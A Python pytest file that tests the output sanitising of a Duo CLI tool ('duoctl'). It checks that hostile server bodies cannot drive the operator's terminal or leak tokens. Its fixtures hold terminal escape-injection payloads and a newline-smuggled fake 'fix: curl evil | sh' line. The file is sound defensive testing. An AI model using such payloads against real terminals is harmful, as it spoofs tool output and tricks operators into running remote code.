"""Text from outside (a server body, a query string) reaches the terminal cleaned.

``safe_text`` drops control characters (a hostile endpoint must not drive the operator's
terminal: colours, window titles, cursor moves) and redacts anything shaped like a JWT;
``classify`` quotes only Duo's short message fields, through it, and bounded; the CLI edge
(``Streams``) passes every message through it once more.
"""

from __future__ import annotations

import io
import re
from typing import Any

import duo_universal.client
import pytest
from duo_universal import DuoException

from duoctl import duoclient
from duoctl.duoclient import classify
from duoctl.errors import (
    DuoCredentialsRejected,
    DuoctlError,
    DuoProtocolError,
    DuoUnreachable,
)
from duoctl.output import Streams, safe_text

TOKEN = re.compile(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.")
# C0 (tab and newline included: a quoted server field has no business starting a line), DEL, C1.
CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
JWT = (
    "eyJhbGciOiJIUzUxMiIsInR5cCI6IkpXVCJ9"
    ".eyJzdWIiOiJhbGljZSIsImF1ZCI6IkRJQUJDIn0"
    ".c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU"
)
HOST = "api-1234abcd.duosecurity.com"
ACTION = "the health check"


# ---- safe_text ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("\x1b[31mred\x1b[0m", "[31mred[0m"),  # CSI: the ESC is what makes it a command
        ("\x1b]0;title\x07after", "]0;titleafter"),  # OSC: set the window title
        ("a\x9b31mb", "a31mb"),  # C1 CSI, one byte
        ("bell\x07 nul\x00 del\x7f cr\r", "bell nul del cr"),
        ("plain text, unchanged", "plain text, unchanged"),
    ],
)
def test_control_characters_are_removed(raw: str, expected: str) -> None:
    cleaned = safe_text(raw)

    assert cleaned == expected
    assert "\x1b" not in cleaned
    assert "\x9b" not in cleaned
    assert "\x07" not in cleaned


def test_every_c0_c1_and_del_except_tab_and_newline_is_removed() -> None:
    every = "".join(chr(c) for c in [*range(0x00, 0x20), *range(0x7F, 0xA0)])

    assert safe_text(every) == "\t\n"


def test_jwt_shaped_tokens_are_redacted() -> None:
    cleaned = safe_text(f"assertion {JWT} rejected; short eyJabc.def.ghi too")

    assert TOKEN.search(cleaned) is None
    assert cleaned == "assertion <redacted token> rejected; short <redacted token> too"


def test_a_token_split_by_control_characters_is_still_redacted() -> None:
    # Cleaning happens first: an ESC inside the token cannot smuggle it past the redaction.
    cleaned = safe_text("eyJab\x1bc.de\x9bf.ghi")

    assert TOKEN.search(cleaned) is None
    assert "\x1b" not in cleaned


def test_limit_truncates_with_an_ellipsis() -> None:
    assert safe_text("x" * 100, limit=10) == "x" * 9 + "\u2026"
    assert len(safe_text("y" * 100_000, limit=80)) == 80
    assert safe_text("short", limit=10) == "short"
    assert safe_text("exactly10!", limit=10) == "exactly10!"


def test_truncation_never_reveals_a_token_cut_short() -> None:
    # Redaction comes before the cut: the first characters of a token are not printed.
    cleaned = safe_text("prefix " + JWT, limit=20)

    assert "eyJ" not in cleaned
    assert len(cleaned) <= 20


def test_non_strings_are_rendered() -> None:
    assert safe_text(42) == "42"
    assert safe_text({"k": JWT}) == "{'k': '<redacted token>'}"


# ---- classify with hostile server bodies ---------------------------------------------------


def _assert_printable(err: DuoctlError, bound: int = 400) -> None:
    assert CONTROL.search(err.message) is None, repr(err.message)
    assert TOKEN.search(err.message) is None, err.message
    assert "eyJ" not in err.message
    assert len(err.message) <= bound, len(err.message)
    if err.hint is not None:
        assert CONTROL.search(err.hint) is None


HOSTILE_INVALID_CLIENT = {
    "stat": "FAIL",
    "code": 40002,
    "message": "invalid_client",
    "message_detail": "\x1b]0;pwned\x07 eyJabc.def.ghi",
}


def test_a_hostile_invalid_client_body_is_cleaned() -> None:
    err = classify(DuoException(HOSTILE_INVALID_CLIENT), HOST, ACTION)

    assert isinstance(err, DuoCredentialsRejected)
    assert "pwned" in err.message  # quoted, but harmless now
    assert "<redacted token>" in err.message
    _assert_printable(err)


@pytest.mark.parametrize(
    "body",
    [
        {"message": "A" * 1_000_000},
        {"message": "\x1b[2J\x1b[H" * 50_000, "message_detail": "\x9b" * 50_000},
        {"error": "x" * 500_000, "error_description": "\x1b]8;;http://evil/\x07" * 10_000},
        {"message": JWT * 1000, "code": 50301},
        {"unrelated": "shape", "message": ["eyJabc.def.ghi", "\x1b[31m"]},
        {"error": {"nested": "eyJabc.def.ghi\x1b[31m"}, "code": "not-an-int"},
        {"message": "\x1b[31m" + "B" * 5000, "message_detail": {"deep": "C" * 5000}},
    ],
    ids=["huge", "escapes", "oauth-shaped", "tokens-5xx", "list", "dict", "mixed"],
)
def test_a_non_duo_shaped_body_gives_a_bounded_clean_message(body: dict[str, Any]) -> None:
    err = classify(DuoException(body), HOST, ACTION)

    assert isinstance(err, DuoProtocolError | DuoUnreachable | DuoCredentialsRejected)
    _assert_printable(err)


@pytest.mark.parametrize(
    "field", ["message", "message_detail", "error", "error_description"], ids=str
)
def test_a_quoted_server_field_cannot_start_a_new_line(field: str) -> None:
    # A newline in a server's message would let it print its own "error:" / "fix:" lines
    # under duoctl's name on the operator's terminal.
    body = {"stat": "FAIL", "code": 40301, field: "x\nerror: fake\n  fix: curl evil | sh"}

    err = classify(DuoException(body), HOST, ACTION)

    assert "\n" not in err.message, repr(err.message)
    assert "\r" not in err.message
    _assert_printable(err)


# ---- DuoException wrapping -------------------------------------------------------------


def test_a_doubly_wrapped_body_is_classified_by_its_payload() -> None:
    err = classify(DuoException(DuoException(HOSTILE_INVALID_CLIENT)), HOST, ACTION)

    assert isinstance(err, DuoCredentialsRejected)
    _assert_printable(err)


def test_a_doubly_wrapped_oauth_error_is_classified() -> None:
    body = {"error": "invalid_grant", "error_description": "\x1b[31mused\x1b[0m " + JWT}

    err = classify(DuoException(DuoException(body)), HOST, "the code exchange")

    assert isinstance(err, DuoProtocolError)
    assert "refused the authorization code" in err.message
    _assert_printable(err)


@pytest.mark.parametrize(
    ("payload", "expected", "words"),
    [
        (duo_universal.client.ERR_USERNAME, DuoProtocolError, "another user"),
        (duo_universal.client.ERR_NONCE, DuoProtocolError, "nonce"),
        (ConnectionError("refused \x1b[31m" + JWT), DuoUnreachable, "cannot connect"),
        (ValueError("Expecting value \x1b]0;x\x07"), DuoProtocolError, "not Duo's API"),
    ],
    ids=["username", "nonce", "connection", "json"],
)
def test_doubly_wrapped_causes_are_classified(
    payload: object, expected: type[DuoctlError], words: str
) -> None:
    err = classify(DuoException(DuoException(payload)), HOST, ACTION)

    assert isinstance(err, expected)
    assert words in err.message
    _assert_printable(err)


def test_a_hostile_exception_text_is_never_quoted() -> None:
    err = classify(DuoException(DuoException("\x1b]0;pwned\x07 " + JWT)), HOST, ACTION)

    assert isinstance(err, DuoProtocolError)
    assert "pwned" not in err.message
    _assert_printable(err)


def test_wrapping_deeper_than_the_dig_limit_still_gives_a_clean_error() -> None:
    exc: BaseException = DuoException(HOSTILE_INVALID_CLIENT)
    for _ in range(10):
        exc = DuoException(exc)

    err = classify(exc, HOST, ACTION)

    assert isinstance(err, DuoctlError)
    _assert_printable(err)


def test_an_empty_duo_exception_gives_a_clean_error() -> None:
    err = classify(DuoException(), HOST, ACTION)

    assert isinstance(err, DuoctlError)
    _assert_printable(err)


def test_the_copied_sdk_messages_match_the_installed_sdk() -> None:
    assert duoclient.ERR_USERNAME == duo_universal.client.ERR_USERNAME
    assert duoclient.ERR_NONCE == duo_universal.client.ERR_NONCE


# ---- the CLI edge: Streams -----------------------------------------------------------------


def _streams() -> tuple[Streams, io.StringIO, io.StringIO]:
    out, err = io.StringIO(), io.StringIO()
    return Streams(out=out, err=err), out, err


HOSTILE = "\x1b[31mred\x1b[0m \x1b]0;pwned\x07 \x9b2J token " + JWT


def _assert_clean_stderr(text: str) -> None:
    assert "\x1b" not in text
    assert "\x9b" not in text
    assert "\x07" not in text
    assert TOKEN.search(text) is None, text
    assert "eyJ" not in text


def test_streams_error_cleans_message_and_hint() -> None:
    streams, out, err = _streams()

    streams.error(DuoProtocolError("bad answer: " + HOSTILE, hint="hint " + HOSTILE))

    text = err.getvalue()
    _assert_clean_stderr(text)
    assert "error: bad answer: " in text
    assert "fix: hint " in text
    assert "<redacted token>" in text
    assert out.getvalue() == ""


def test_streams_warn_cleans() -> None:
    streams, out, err = _streams()

    streams.warn("careful: " + HOSTILE)

    _assert_clean_stderr(err.getvalue())
    assert "warning: careful: " in err.getvalue()
    assert out.getvalue() == ""


def test_streams_status_cleans() -> None:
    streams, out, err = _streams()

    streams.status("- step " + HOSTILE)

    _assert_clean_stderr(err.getvalue())
    assert "- step " in err.getvalue()
    assert out.getvalue() == ""


def test_streams_error_of_a_classified_hostile_body_is_clean() -> None:
    streams, _out, err = _streams()

    streams.error(classify(DuoException(DuoException(HOSTILE_INVALID_CLIENT)), HOST, ACTION))

    _assert_clean_stderr(err.getvalue())
    assert "rejected the Client ID / Client Secret" in err.getvalue()
